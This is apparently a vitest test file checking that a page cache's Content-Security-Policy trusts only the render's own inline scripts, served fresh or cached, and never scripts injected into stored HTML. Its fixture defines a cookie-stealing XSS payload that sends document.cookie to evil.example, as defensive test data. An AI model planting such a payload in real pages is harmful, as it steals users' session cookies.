import { createHash } from "node:crypto";
import type { AddressInfo } from "node:net";
import express from "express";
import { afterAll, describe, expect, it } from "vitest";
import { hashPolicy } from "./csp";
import { createPageCache } from "./page-cache";

const sha = (text: string) => `'sha256-${createHash("sha256").update(text, "utf8").digest("base64")}'`;

/**
 * A stored page's policy trusts only what its render wrote (issue 34): the book description below carries
 * an inline script (as if the sanitiser had missed it); the page is stored, and that script's hash is not
 * in the policy served with it, fresh or from the cache, while the render's own scripts are.
 */
const OWN = "window.__reactRouterContext = {};";
const INJECTED = "fetch('https://evil.example/?c=' + document.cookie)";
const nonces: string[] = [];

const cache = createPageCache({
  maxBytes: 1024 * 1024,
  htmlPolicy: (html, path, scriptNonce) => hashPolicy(html, scriptNonce, { path, secure: false }),
  // As server/app.ts: the render's answer carries a policy with the render's nonce, for when it is not stored.
  render: async (req, _res, scriptNonce) => {
    nonces.push(scriptNonce);
    const description = `<p>Una novela.</p><script>${INJECTED}</script><script nonce="${nonces[0]}x">${INJECTED}</script>`;
    return new Response(
      `<!DOCTYPE html><html><body><div class="description">${description}</div><script nonce="${scriptNonce}">${OWN}</script></body></html>`,
      {
        status: req.path === "/libro/0" ? 404 : 200,
        headers: { "content-type": "text/html", "content-security-policy": `script-src 'self' 'nonce-${scriptNonce}'` },
      },
    );
  },
});
const app = express();
app.use(cache.middleware);
const server = app.listen(0, "127.0.0.1");
await new Promise((resolve) => server.once("listening", resolve));
const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
afterAll(() => new Promise((resolve) => server.close(resolve)));

describe("a stored page's Content-Security-Policy", () => {
  it("names the render's own inline scripts and never one injected into the HTML", async () => {
    const first = await fetch(`${base}/libro/7`);
    const hit = await fetch(`${base}/libro/7`);
    expect(first.headers.get("x-cache")).toBe("MISS");
    expect(hit.headers.get("x-cache")).toBe("HIT");
    const html = await hit.text();
    expect(html).toContain(INJECTED);
    for (const response of [first, hit]) {
      const scriptSrc = (response.headers.get("content-security-policy") ?? "")
        .split("; ")
        .find((directive) => directive.startsWith("script-src"));
      expect(scriptSrc).toBe(`script-src 'self' ${sha(OWN)}`);
      expect(scriptSrc).not.toContain(sha(INJECTED));
    }
    // Each render marks its scripts with a nonce of its own, sent in no policy.
    expect(nonces).toHaveLength(1);
    expect(nonces[0]).toMatch(/^[A-Za-z0-9+/]{22}==$/);
    expect(first.headers.get("content-security-policy")).not.toContain("nonce-");
  });

  it("answers a page it does not store (a 404) with the policy of the render's own nonce", async () => {
    const missing = await fetch(`${base}/libro/0`);
    expect(missing.status).toBe(404);
    expect(missing.headers.get("content-security-policy")).toBe(`script-src 'self' 'nonce-${nonces.at(-1)}'`);
  });
});
